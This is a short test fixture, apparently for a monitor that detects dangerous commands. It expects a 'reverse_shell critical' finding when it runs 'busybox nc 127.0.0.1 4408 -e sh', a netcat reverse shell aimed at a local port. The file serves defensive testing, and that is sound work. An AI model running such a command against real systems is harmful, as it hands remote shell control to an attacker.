# about: busybox nc runs the shell
# expect: reverse_shell critical
# needs: python3 busybox
peer 4408
timeout 6 busybox nc 127.0.0.1 4408 -e sh || true
done_typing
